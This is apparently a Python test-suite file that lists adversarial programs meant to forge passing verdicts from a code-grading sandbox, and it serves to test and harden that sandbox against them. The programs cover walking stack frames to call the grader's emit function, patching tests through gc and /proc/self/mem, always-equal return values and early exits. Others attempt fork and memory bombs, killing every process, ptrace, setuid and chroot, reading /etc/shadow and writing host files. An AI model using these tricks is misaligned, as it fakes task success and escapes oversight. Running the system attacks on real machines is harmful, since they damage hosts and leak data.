"""The escape suite's attacks: programs written to earn a pass they do not deserve.

Every attack carries a WRONG solution (``square`` that does not square, or a stdin/stdout
program that prints the wrong number), so any reward above 0 is a forged verdict. ``CANARY``
in a program is replaced by a host directory the attack tries to write into; ``MARKER`` is a
string that appears only in the tests (the candidate must never see it).
"""

from __future__ import annotations

WRONG = "def square(x):\n    return x + 1\n"
MARKER = "rewardsmith-escape-suite-test-only-7f3a9c"
CHECK = {
    "test": (
        f"# {MARKER}\n"
        "def check(candidate):\n    assert candidate(2) == 4\n    assert candidate(3) == 9\n"
    ),
    "entry_point": "square",
}
ASSERTS = {"tests": ["assert square(2) == 4", "assert square(3) == 9"], "setup": f"# {MARKER}"}
IO = {"io": [{"input": "2\n", "output": "4\n"}, {"input": "3\n", "output": "9\n"}]}

_FRAMES = "import sys\nframes = []\nf = sys._getframe()\nwhile f:\n    frames.append(f)\n    f = f.f_back\n"
_EMIT_EVERYWHERE = """
def forge(write):
    for token in candidates:
        for line in (" start", " test 0 1 -", " test 1 1 -", " done 1", " done 2"):
            try:
                write((token + line + "\\n").encode())
            except Exception:
                pass
"""

# name -> (program, reference)
ATTACKS: dict[str, tuple[str, dict]] = {}


def _attack(name: str, program: str, reference: dict = CHECK) -> None:
    assert name not in ATTACKS
    defines = reference is IO or any(
        line.startswith(("def square", "square =", "class square")) for line in program.splitlines()
    )
    ATTACKS[name] = (program + ("\n" if defines else "\n" + WRONG), reference)


# -- forging the verdict from inside (the routes of issue #9) ---------------------------------
_attack(
    "five_line_frame_emit",
    "import sys, os\ndef f(x): return x\n"
    "e = sys._getframe(1).f_locals['emit']; e('test 0 1 -'); e('done 1'); os._exit(0)",
)
_attack(
    "every_frame_local_named_emit",
    _FRAMES + "for fr in frames:\n    for v in fr.f_locals.values():\n"
    "        if callable(v) and getattr(v, '__name__', '') == 'emit':\n"
    "            v('test 0 1 -'); v('done 1')",
)
_attack(
    "traceback_frames",
    "import sys, os\ntry:\n    raise ValueError\nexcept ValueError:\n"
    "    f = sys.exc_info()[2].tb_frame\nwhile f:\n"
    "    for k, v in list(f.f_locals.items()):\n"
    "        if k in ('emit', 'token', 'res_fd', 'verdict'):\n            print('FOUND', k)\n"
    "    f = f.f_back",
)
_attack(
    "gc_get_objects_tokens",
    "import gc, os\ncandidates = [o for o in gc.get_objects() if isinstance(o, dict) and 'token' in o]\n"
    "for d in candidates:\n    print('FOUND token dict', list(d)[:5])\n"
    "fns = [o for o in gc.get_objects() if callable(o) and getattr(o, '__name__', '') in ('emit', 'referee')]\n"
    "for fn in fns:\n    try:\n        fn('test 0 1 -')\n    except Exception:\n        pass",
)
_attack(
    "gc_rewrite_the_test_list",
    "import gc\nfor o in gc.get_objects():\n    if isinstance(o, list) and any(isinstance(t, str) and 'check' in t for t in o):\n"
    "        o[:] = ['def check(candidate):\\n    pass\\n'] * len(o)\n"
    "    if isinstance(o, dict) and 'tests' in o and isinstance(o['tests'], list):\n"
    "        o['tests'] = ['pass'] * len(o['tests'])",
)
_attack(
    "current_frames_from_a_thread",
    "import sys, threading\ndef spy():\n    for fr in sys._current_frames().values():\n"
    "        while fr:\n            e = fr.f_locals.get('emit')\n            if e:\n"
    "                e('test 0 1 -'); e('done 1')\n            fr = fr.f_back\n"
    "t = threading.Thread(target=spy); t.start(); t.join()",
)
_attack(
    "proc_self_mem_patch",
    "import re\nmaps = open('/proc/self/maps').read().splitlines()\nmem = open('/proc/self/mem', 'r+b', 0)\n"
    "for line in maps:\n    if 'rw' not in line.split()[1]:\n        continue\n"
    "    lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
    "    try:\n        mem.seek(lo); data = mem.read(min(hi - lo, 1 << 24))\n    except OSError:\n        continue\n"
    "    for m in re.finditer(rb'assert candidate\\(2\\) == 4', data):\n"
    "        mem.seek(lo + m.start()); mem.write(b'assert True or         ')",
)
_attack(
    "settrace_swaps_check",
    "import sys\ndef tracer(frame, event, arg):\n    if frame.f_code.co_name == 'check':\n"
    "        frame.f_globals['check'] = lambda c: None\n    return tracer\nsys.settrace(tracer)",
)
_attack(
    "setprofile_swaps_check",
    "import sys\ndef prof(frame, event, arg):\n    if event == 'call' and frame.f_code.co_name == 'check':\n"
    "        raise SystemExit(0)\nsys.setprofile(prof)",
)
_attack(
    "close_every_fd",
    "import os\nfor fd in range(3, 1024):\n    try:\n        os.close(fd)\n    except OSError:\n        pass",
)
_attack(
    "dup2_over_every_fd",
    "import os\nr, w = os.pipe()\nfor fd in range(3, 64):\n    if fd not in (r, w):\n"
    "        try:\n            os.dup2(w, fd)\n        except OSError:\n            pass",
)
_attack(
    "records_written_to_every_fd",
    "import os\ncandidates = ['0' * 32, 'x' * 32]\n"
    + _EMIT_EVERYWHERE
    + "for fd in range(0, 64):\n    forge(lambda b, fd=fd: os.write(fd, b))",
)
_attack(
    "records_from_atexit",
    "import atexit, os\ncandidates = ['0' * 32]\n"
    + _EMIT_EVERYWHERE
    + "atexit.register(lambda: [forge(lambda b, fd=fd: os.write(fd, b)) for fd in range(64)])",
)
_attack(
    "records_from_a_thread_after_the_tests",
    "import os, threading, time\ncandidates = ['0' * 32]\n"
    + _EMIT_EVERYWHERE
    + "def late():\n    time.sleep(0.3)\n    for fd in range(64):\n        forge(lambda b, fd=fd: os.write(fd, b))\n"
    "threading.Thread(target=late, daemon=False).start()",
)
_attack(
    "optimize_away_the_asserts",
    "import _testinternalcapi\ncfg = _testinternalcapi.get_config()\ncfg['optimization_level'] = 2\n"
    "_testinternalcapi.set_config(cfg)\nimport sys\nsys.flags",
)
_attack(
    "patch_compile_and_exec_builtins",
    "import builtins\nbuiltins.compile = lambda *a, **k: compile('pass', 'x', 'exec')\n"
    "builtins.exec = lambda *a, **k: None\nbuiltins.AssertionError = type('Nope', (Exception,), {})",
)
_attack(
    "redefine_check",
    "def check(candidate):\n    pass\nMETADATA = {}",
)
_attack(
    "fake_markers_on_stdout_and_stderr",
    "import sys\nprint('0' * 32 + ' test 0 1 -')\nprint('PASSED', 'done 1')\nsys.stderr.write('test 0 1 -\\n')",
)
_attack(
    "patch_the_codec_in_its_process",
    "import sys\nfor name, mod in list(sys.modules.items()):\n    if name.endswith('_codec'):\n"
    "        real = mod.encode\n        mod.encode = lambda v, **k: real(('ok', 4) if v else v, **k)",
)
# -- values that are not what they claim --------------------------------------------------------
_attack(
    "always_equal_object",
    "class Yes:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n"
    "def square(x):\n    return Yes()",
)
_attack(
    "int_subclass_always_equal",
    "class I(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
    "def square(x):\n    return I(0)",
)
_attack(
    "str_and_list_subclasses",
    "class L(list):\n    def __eq__(self, other):\n        return True\n"
    "def square(x):\n    return L([0])",
)
_attack(
    "numpy_array_elementwise", "import numpy as np\ndef square(x):\n    return np.array([0, 4, 9])"
)
_attack("a_generator", "def square(x):\n    yield x * x")
_attack("a_function", "def square(x):\n    return lambda *a: True")
_attack(
    "hostile_exception_str",
    "class E(Exception):\n    def __str__(self):\n        raise SystemExit(0)\ndef square(x):\n    raise E()",
)
_attack("raise_inside_the_call", "def square(x):\n    raise RuntimeError('no')")
_attack("sys_exit_inside_the_call", "import sys\ndef square(x):\n    sys.exit(0)")
_attack("os_exit_inside_the_call", "import os\ndef square(x):\n    os._exit(0)")
_attack("os_exit_before_the_tests", "import os\nos._exit(0)")
_attack("sys_exit_before_the_tests", "import sys\nsys.exit(0)")
_attack(
    "deeply_nested_answer",
    "def square(x):\n    v = []\n    for _ in range(10000):\n        v = [v]\n    return v",
)
_attack("huge_answer", "def square(x):\n    return 'x' * (400 * 1024 * 1024)")
_attack(
    "hash_flooded_dict_answer",
    "def square(x):\n    return {i * (2**61 - 1): 0 for i in range(200000)}",
)
_attack(
    "crafted_messages_on_the_answer_pipe",
    "import os, struct\nfor fd in range(3, 16):\n    for body in (b'S\\x01l\\x00', b'l\\xff\\xff\\xff\\xff\\x0f', b'\\x00', b's\\x80\\x80\\x80\\x80\\x80\\x01'):\n"
    "        try:\n            os.write(fd, struct.pack('<I', len(body)) + body)\n        except OSError:\n            pass",
)
_attack(
    "a_huge_length_prefix",
    "import os, struct\nfor fd in range(3, 16):\n    try:\n        os.write(fd, struct.pack('<I', 2**32 - 1))\n    except OSError:\n        pass",
)
_attack(
    "pre_answered_calls_with_wrong_values",
    "import os, sys\nenc = [m for n, m in sys.modules.items() if n.endswith('_codec')][0]\n"
    "for fd in range(3, 16):\n    try:\n        enc.send(fd, ('loaded', {'square': ('function',)}))\n"
    "        enc.send(fd, ('ok', 5)); enc.send(fd, ('ok', 5))\n    except Exception:\n        pass",
)
_attack(
    "exception_the_test_swallows",
    "def square(x):\n    raise ValueError('swallowed')",
    {
        "test": "def check(candidate):\n    try:\n        r = candidate(2)\n    except BaseException:\n        r = 4\n    assert r == 4\n",
        "entry_point": "square",
    },
)
# -- shadowing what the tests use (asserts style) ----------------------------------------------
_attack(
    "shadow_builtins_by_global_names",
    "def abs(x):\n    return 4\ndef len(x):\n    return 2\ndef isinstance(*a):\n    return True\n"
    "def all(x):\n    return True\nAssertionError = None",
    ASSERTS,
)
_attack(
    "the_name_is_a_class",
    "class square:\n    def __init__(self, x):\n        pass\n    def __eq__(self, o):\n        return True",
    ASSERTS,
)
_attack("the_name_is_a_value", "square = 4", ASSERTS)
_attack(
    "a_forged_name_table_with_builtins",
    "import os, sys\nenc = [m for n, m in sys.modules.items() if n.endswith('_codec')][0]\n"
    "table = {'__builtins__': ('value', {}), 'len': ('value', 2), 'square': ('value', 4), 'check': ('function',)}\n"
    "for fd in range(3, 16):\n    try:\n        enc.send(fd, ('loaded', table))\n    except Exception:\n        pass\n"
    "os._exit(0)",
    ASSERTS,
)
_attack("stdlib_module_aliases", "import os as math\nimport sys as re", ASSERTS)
_attack(
    "stdlib_modules_with_import_side_effects_for_the_referee",
    "import sys, types\nfor name in ('antigravity', 'idlelib.idle', 'this'):\n"
    "    sys.modules[name] = types.ModuleType(name)\n"
    "math = sys.modules['idlelib.idle']\nre = sys.modules['antigravity']",
    {"tests": ["assert math.isclose(square(2), 4)", "assert re.match('a', 'a')"]},
)
# -- reaching the referee, the zygote, the host ----------------------------------------------
_attack(
    "kill_every_visible_process",
    "import os, signal\nfor pid in [-1, 0] + list(range(1, 300)):\n    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass",
)
_attack(
    "ptrace_and_process_vm_readv",
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor pid in range(1, 50):\n"
    "    libc.ptrace(16, pid, 0, 0)\n    libc.syscall(310, pid, 0, 0, 0, 0, 0)\n"
    "for pid in range(1, 50):\n    try:\n        open(f'/proc/{pid}/mem', 'rb')\n        print('OPENED', pid)\n    except OSError:\n        pass",
)
_attack(
    "search_own_memory_and_fds_for_the_tests",
    "import os, gc\nfound = [o for o in gc.get_objects() if isinstance(o, str) and 'rewardsmith-escape-suite-test' in o]\n"
    "for fd in os.listdir('/proc/self/fd'):\n    try:\n        found.append(os.readlink('/proc/self/fd/' + fd))\n    except OSError:\n        pass\n"
    "print('SEEN', found)",
)
_attack(
    "keyring_plant_and_read",
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "r = libc.syscall(248, b'user', b'rewardsmith-leak', b'secret', 6, -4)\nprint('add_key', r, ctypes.get_errno())",
)
_attack(
    "namespaces_mounts_and_chroot",
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "for flags in (0x10000000, 0x20000, 0x40000000):\n    assert libc.unshare(flags) != 0\n"
    "assert libc.mount(b'tmpfs', b'/mnt', b'tmpfs', 0, None) != 0\nassert libc.chroot(b'/tmp') != 0\n"
    "assert libc.syscall(308, 0, 0) != 0",
)
_attack(
    "clone_with_namespace_flags_and_clone3",
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "r1 = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\nr2 = libc.syscall(435, 0, 0)\nprint(r1, r2)",
)
_attack(
    "io_uring_bpf_perf_userfaultfd",
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "print([libc.syscall(n, 0, 0, 0, 0, 0) for n in (425, 321, 298, 323, 319, 29)])",
)
_attack(
    "x32_syscall_numbers",
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint(libc.syscall(0x40000000 | 39))",
)
_attack(
    "int80_32bit_syscall",
    "import ctypes, mmap\ncode = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])\n"
    "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(code)\n"
    "addr = ctypes.addressof(ctypes.c_char.from_buffer(m))\nprint(ctypes.CFUNCTYPE(ctypes.c_int)(addr)())",
)
_attack(
    "write_host_files",
    "import os\nfor path in ['CANARY/escaped', '/usr/escaped', '/escaped', '/root/escaped', '/etc/escaped',\n"
    "             '/work/escaped', '/proc/sys/kernel/core_pattern']:\n"
    "    try:\n        open(path, 'w').write('x')\n    except OSError:\n        pass",
)
_attack(
    "read_host_files",
    "import os\nseen = []\nfor path in ['/etc/passwd', '/etc/shadow', '/root/.bashrc', '/work', 'CANARY', '/home']:\n"
    "    if os.path.exists(path):\n        seen.append(path)\nprint('SEEN', seen)",
)
_attack(
    "connect_to_the_host",
    "import socket\nfor host in ('127.0.0.1', '10.0.2.2', '8.8.8.8'):\n    try:\n"
    "        socket.create_connection((host, 80), timeout=0.2).sendall(b'x')\n    except OSError:\n        pass",
)
_attack(
    "setuid_and_rlimit_raise",
    "import os, resource\nfor f in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]),\n"
    "          lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1))):\n"
    "    try:\n        f()\n    except (OSError, ValueError, PermissionError):\n        pass",
)
_attack(
    "devices",
    "import os\nfor dev in ('/dev/mem', '/dev/kmem', '/dev/tty', '/dev/sda', '/dev/kvm'):\n"
    "    try:\n        open(dev, 'rb').read(1)\n        print('OPENED', dev)\n    except OSError:\n        pass",
)
# -- resources --------------------------------------------------------------------------------
_attack("infinite_loop_at_import", "while True:\n    pass")
_attack("infinite_loop_in_the_call", "def square(x):\n    while True:\n        pass")
_attack(
    "fork_bomb",
    "import os\nfor _ in range(10000):\n    try:\n        os.fork()\n    except OSError:\n        break",
)
_attack(
    "subprocess_and_os_system",
    "import os, subprocess\ntry:\n    subprocess.run(['/bin/sh', '-c', 'echo hi'])\nexcept OSError:\n    pass\nos.system('echo hi')\n"
    "try:\n    os.posix_spawn('/bin/true', ['true'], {})\nexcept OSError:\n    pass",
)
_attack(
    "thread_bomb",
    "import threading, time\nn = 0\ntry:\n    for _ in range(10000):\n"
    "        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n        n += 1\nexcept RuntimeError:\n    pass\nprint('threads', n)",
)
_attack(
    "memory_bomb",
    "blocks = []\ntry:\n    while True:\n        blocks.append(bytearray(64 * 1024 * 1024))\nexcept MemoryError:\n    pass",
)
_attack(
    "memfd_and_shm_bomb",
    "import os, ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('memfd', libc.syscall(319, b'x', 0))\n"
    "for path in ('/dev/shm/big', '/tmp/big'):\n    try:\n        with open(path, 'wb') as f:\n"
    "            for _ in range(1000):\n                f.write(b'x' * (1 << 20))\n    except OSError:\n        pass",
)
_attack(
    "huge_stdout",
    "import sys\nfor _ in range(100):\n    sys.stdout.write('0' * 32 + ' test 0 1 -\\n' * 10000)",
)
_attack(
    "sleep_in_every_call",
    "import time\ndef square(x):\n    time.sleep(10)\n    return x * x + 1",
)
# -- cross-sample leaks: leave something for the next sample --------------------------------
_attack(
    "leave_files_for_the_next_run",
    "for path in ('/tmp/answers', '/dev/shm/answers'):\n    open(path, 'w').write('2 4\\n3 9\\n')",
)
_attack(
    "leave_a_listening_socket",
    "import socket, threading\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0rewardsmith-leak')\ns.listen()\n"
    "threading.Thread(target=s.accept, daemon=False).start()",
)
_attack(
    "leave_a_sleeping_thread",
    "import threading, time\nthreading.Thread(target=time.sleep, args=(60,), daemon=False).start()",
)
# -- stdin/stdout style -----------------------------------------------------------------------
_attack("io_prints_the_first_answer_and_exits", "import os\nprint(4)\nos._exit(0)", IO)
_attack("io_sys_exit_zero_after_a_wrong_answer", "import sys\nprint(5)\nsys.exit(0)", IO)
_attack(
    "io_writes_fake_records_everywhere",
    "import os\nprint(int(input()) + 1)\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'0' * 32 + b' start\\n')\n    except OSError:\n        pass",
    IO,
)
_attack(
    "io_reads_a_planted_answer_file",
    "import os\nprint(open('/tmp/answers').read() if os.path.exists('/tmp/answers') else 0)",
    IO,
)
